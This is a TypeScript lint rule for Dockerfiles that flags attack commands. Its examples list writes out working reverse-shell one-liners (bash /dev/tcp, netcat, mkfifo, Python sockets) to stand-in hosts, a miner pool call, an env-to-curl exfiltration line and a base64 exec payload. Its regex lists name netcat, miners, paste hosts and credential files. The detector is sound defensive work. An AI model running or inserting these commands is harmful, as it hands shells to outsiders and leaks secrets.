/** Finds commands that belong to attacks rather than to builds: shells for others, miners, hidden payloads, leaks. */
import { scriptsOf } from '../../model/downloads';
import type { DockerfileModel } from '../../model/model';
import { written } from '../../model/written';
import type { ShellCommand } from '../../shell/types';
import type { TextRange } from '../../text/range';
import { lowered, type Rule, type Severity } from '../rule';

export const rule: Rule = {
	meta: {
		id: 'suspicious-command',
		title: 'Command of an attack',
		category: 'supply-chain',
		severity: 'error',
		why: 'Reverse shells, miners, payloads that are decoded before they run, and environments that are sent away are what attackers put into images. Where it is meant, say so; where nobody knows where the line came from, the image is not to be trusted.',
		fixable: 'never',
		since: '0.2.0',
		sameAs: [],
		references: ['https://attack.mitre.org/techniques/T1059/', 'https://attack.mitre.org/techniques/T1496/', 'https://cwe.mitre.org/data/definitions/506.html'],
	},

	*check(model) {
		for (const stage of model.stages) {
			for (const run of scriptsOf(stage, model.text)) for (const command of run.commands) {
				const found = faultOf(model, command);
				if (found) yield { range: found.range, message: `${found.what} Remove it, and find out where it comes from.`, severity: stage.ships || found.severity === 'error' ? found.severity : lowered(found.severity), fixes: [] };
			}
			for (const { keyword, sources } of stage.copies) if (keyword === 'ADD') for (const { word } of sources) {
				if (BARE.test(word.text) || DROPS.test(word.text)) yield { range: word.range, message: 'Nobody can tell whose file this is. Take it from a place that is known, with a checksum.', severity: stage.ships ? 'warning' : 'info', fixes: [] };
			}
			for (const { text, range, file } of written(model, stage)) {
				const shell = SHELL_OUT.exec(text);
				if (shell) yield { range: { start: range.start + shell.index, end: range.start + shell.index + shell[0].length }, message: 'This hands a shell to another machine. Remove it, and find out where it comes from.', fixes: [] };
				const key = /authorized_keys/.test(file) ? /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA/.exec(text) : null;
				if (key) yield { range: { start: range.start + key.index, end: range.start + key.index + key[0].length }, message: "Whoever holds this key's other half may log in to every container. Leave keys of people out of images.", severity: stage.ships ? 'warning' : 'info', fixes: [] };
			}
		}
	},

	examples: [
		{ name: 'a shell for somebody else', bad: "FROM debian:13-slim\nRUN bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n#                       ^^^^^^^^^^^^^^^^^^^^^^^^^ suspicious-command\n" },
		{ name: 'by netcat', bad: 'FROM alpine:3.24\nCMD nc -e /bin/sh evil.example.com 4444\n#   ^^ suspicious-command\n' },
		{ name: 'by a pipe', bad: 'FROM alpine:3.24\nRUN mkfifo /tmp/f && cat /tmp/f | /bin/sh -i 2>&1 | nc evil.example.com 4444 > /tmp/f\n#                                                   ^^ suspicious-command\n' },
		{ name: 'by a language', bad: 'FROM python:3.14\nRUN python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'\n#   ^^^^^^^ suspicious-command\n' },
		{ name: 'a miner', bad: 'FROM ubuntu:24.04\nCMD ["xmrig", "-o", "stratum+tcp://pool.example.com:3333"]\n#    ^^^^^^^ suspicious-command\n' },
		{ name: 'the environment sent away', bad: 'FROM alpine:3.24\nRUN env | curl -X POST --data-binary @- https://collect.example.com\n#         ^^^^ suspicious-command\n' },
		{ name: 'a payload', bad: 'FROM python:3.14\nRUN python -c "exec(__import__(\'base64\').b64decode(\'cHJpbnQoMSkKcHJpbnQoMikKcHJpbnQoMyk=\'))"\n#   ^^^^^^ suspicious-command\n' },
		{ name: 'a key of somebody', bad: 'FROM debian:13\nRUN echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample me" >> /root/.ssh/authorized_keys\n#         ^^^^^^^^^^^^^^^^ suspicious-command\n' },
		{ name: 'a download from a bare address', bad: 'FROM alpine:3.24\nRUN wget http://203.0.113.5/a.bin -O /a\n#        ^^^^^^^^^^^^^^^^^^^^^^^^ suspicious-command\n' },
		{ name: 'a look whether a port is open', good: "FROM debian:13-slim\nHEALTHCHECK CMD bash -c '</dev/tcp/127.0.0.1/8080' || nc -z localhost 80\nRUN timeout 5 bash -c 'until echo > /dev/tcp/db/5432; do sleep 1; done'\n" },
		{ name: 'ordinary work', good: 'FROM debian:13-slim\nRUN echo "$CERT" | base64 -d > /etc/ca.pem && env | sort && python -c "import base64; print(base64.b64decode(\'aGk=\'))" && curl -d @report.json https://api.example.com && wget http://10.0.0.5/a\n' },
	],
};

interface Fault {
	readonly range: TextRange;
	readonly what: string;
	readonly severity: Severity;
}

const MINERS = /^(?:xmrig(?:-\w+)?|xmr-stak(?:-\w+)?|minerd|cpuminer(?:-\w+)?|ccminer|ethminer|nbminer|lolminer|phoenixminer|teamredminer|srbminer(?:-multi)?|gminer|claymore|cgminer|bfgminer|nanominer|cryptonight)$/i;
const MINER_FILE = /\/(?:xmrig|xmr-stak|cpuminer|ccminer|ethminer|nbminer|lolminer|phoenixminer|teamredminer|srbminer)[-/_.\d]/i;
const SHELL_OUT = /\b(?:ba|z|da)?sh\s+-i\s*[<>&\d\s]*\/dev\/(?:tcp|udp)\/[^\s"'\\]+/;
const POOL = /\bstratum\+(?:tcp|ssl|tls)s?:\/\//i;
const NETCAT = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/;
const SHELL = /(?:^|\/)(?:ba|da|a|z|k)?sh\b/;
const DEVICE = /^\/dev\/(?:tcp|udp)\//;
const LANGUAGE = /^(?:python[\d.]*|perl|ruby|php\d*|node|lua|powershell|pwsh)$/;
const DECODED = /(?:\b(?:exec|eval|iex|Invoke-Expression)\b[^;]{0,80}(?:b64decode|frombase64string|base64_decode|decode_base64|unhexlify|gzinflate|zlib\.decompress)|(?:b64decode|decode_base64|base64_decode)[^;]{0,400}\b(?:exec|eval)\()/i;
/** Hosts where people drop texts and files without a name, and tunnels to a machine at home. */
const DROPS = /^["']?https?:\/\/(?:[\w-]+\.)*(?:pastebin\.com\/raw|paste\.ee|hastebin\.com|ghostbin\.\w+|termbin\.com|transfer\.sh|0x0\.st|ngrok(?:-free)?\.(?:io|app)|webhook\.site|requestbin\.\w+|pipedream\.net|burpcollaborator\.net|oast(?:ify)?\.\w+|interact\.sh|anonfiles\.com|[a-z2-7]{16,56}\.onion)(?:[/:?]|["']?$)/i;
const BARE = /^["']?(?:https?|ftp):\/\/(?!(?:0|10|127|169\.254|192\.168|172\.(?:1[6-9]|2\d|3[01]))\.)\d{1,3}(?:\.\d{1,3}){3}(?:[:/]|["']?$)/i;
const SECRETS = /^(?:env|printenv|export|set)$/;
const SECRET_FILE = /(?:^|\/)(?:\.aws\/credentials|\.ssh\/id_\w+|\.netrc|\.npmrc|\.docker\/config\.json|etc\/shadow)$|^\/run\/secrets\//;
const SENDS = new Set(['d', 'data', 'data-binary', 'data-raw', 'data-urlencode', 'F', 'form', 'T', 'upload-file', 'post-data', 'post-file']);

function faultOf(model: DockerfileModel, command: ShellCommand): Fault | undefined {
	const { name, args, nameWord, redirections, pipedFrom } = command;
	if (!nameWord) return undefined;
	const at = (what: string, severity: Severity = 'error', range: TextRange = nameWord.range): Fault => ({ range, what, severity });
	const device = redirections.find(({ target }) => target && DEVICE.test(target.value))?.target;
	if (device && SHELL.test(name) && args.some(({ value }) => /^-\w*i/.test(value))) return at('This hands a shell to another machine.', 'error', device.range);
	if (NETCAT.test(name)) {
		const runs = args.some(({ value }, i) => /^-\w*[ec]$|^--(?:exec|sh-exec)$/.test(value) && SHELL.test(args[i + 1]?.value ?? '') || /^--(?:exec|sh-exec)=/.test(value));
		if (runs || pipedFrom.some((each) => SHELL.test(each.name) && each.args.some(({ value }) => /^-\w*i/.test(value)))) return at('This hands a shell to another machine.');
	}
	if (name === 'socat' && args.some(({ value }) => /^(?:exec|system):/i.test(value) && SHELL.test(value)) && args.some(({ value }) => /^(?:tcp|openssl|udp)/i.test(value))) return at('This hands a shell to another machine.');
	if (MINERS.test(name) || args.some(({ value }) => POOL.test(value))) return at('This mines coins at the cost of whoever runs it.', 'warning');
	if (LANGUAGE.test(name)) {
		const text = args.map(({ value }) => value).join(' ');
		if (/\b(?:f?sock(?:et|open)|TCPSocket)/i.test(text) && /\b(?:dup2|subprocess|pty\.spawn|exec|spawn|popen|proc_open|open)\b/i.test(text) && /(?:\/bin\/|["'])(?:ba|da|z)?sh\b|IO\.popen/.test(text)) return at('This hands a shell to another machine.');
		if (DECODED.test(text) || /^(?:powershell|pwsh)$/.test(name) && args.some(({ value }, i) => /^-e(?:nc|ncodedcommand)?$/i.test(value) && (args[i + 1]?.value.length ?? 0) > 40)) return at('What runs here is hidden by an encoding.');
	}
	return sending(command, at) ?? fetching(command, at) ?? covering(model, command, at);
}

type At = (what: string, severity?: Severity, range?: TextRange) => Fault;

/** The environment or credentials as the data of a request. */
function sending({ name, args, pipedFrom, redirections }: ShellCommand, at: At): Fault | undefined {
	const curl = name === 'curl' || name === 'wget';
	if (!curl && !NETCAT.test(name)) return undefined;
	const data = args.filter((_, i) => SENDS.has(args[i - 1]?.value.replace(/^--?/, '') ?? ''));
	const piped = pipedFrom.at(-1);
	const environment = pipedFrom.some((each) => SECRETS.test(each.name) && each.args.length === 0 || each.name === 'cat' && each.args.some(({ value }) => SECRET_FILE.test(value)));
	const sent = piped !== undefined && environment && (!curl || data.some(({ value }) => /^(?:\w+=)?@-$/.test(value)));
	const inline = data.some(({ value, substitutions }) => SECRET_FILE.test(value.replace(/^(?:\w+=)?@/, '')) || substitutions.some(({ commands }) => commands.some((each) => SECRETS.test(each.name) && each.args.length === 0)));
	return sent || inline || redirections.some(({ target, operator }) => operator === '<' && SECRET_FILE.test(target?.value ?? '')) && NETCAT.test(name) ? at('This sends secrets of the build away.') : undefined;
}

function fetching({ name, args }: ShellCommand, at: At): Fault | undefined {
	if (!/^(?:curl|wget2?|aria2c|iwr|irm|invoke-webrequest)$/.test(name)) return undefined;
	const miner = args.find(({ value }) => MINER_FILE.test(value));
	if (miner) return at('This brings a program that mines coins.', 'warning', miner.range);
	const drop = args.find(({ value }) => DROPS.test(value));
	if (drop) return at('Anybody may put a file there without a name.', 'warning', drop.range);
	const bare = args.find(({ value }) => BARE.test(value));
	return bare && at('Nobody can tell whose address this is.', 'warning', bare.range);
}

/** What is decoded runs as a script (a shell in a pipe is told by curl-pipe-shell), or traces are wiped. */
function covering(model: DockerfileModel, { name, args, nameWord, range }: ShellCommand, at: At): Fault | undefined {
	const script = args.some(({ substitutions }) => substitutions.some(({ commands }) => commands.some((each) => each.name === 'base64' && each.args.some(({ value }) => /^(?:-\w*[dD]|--decode)/.test(value)))));
	if (script && (name === 'eval' || SHELL.test(name) && args.some(({ value }) => /^-\w*c$/.test(value)))) return at('What runs here is hidden by an encoding.');
	if (name === 'history' && args.some(({ value }) => /^-\w*c/.test(value))) return at('This wipes the traces of a session.', 'info');
	if (name === 'setenforce' && /^(?:0|permissive)$/i.test(args[0]?.value ?? '') || name === 'auditctl' && /-e\s*0\b/.test(model.text.slice(range.start, range.end))) return at('This switches the guard of the host off.', 'warning');
	return name === 'unset' && args.some(({ value }) => value === 'HISTFILE') ? at('This wipes the traces of a session.', 'info', nameWord?.range) : undefined;
}
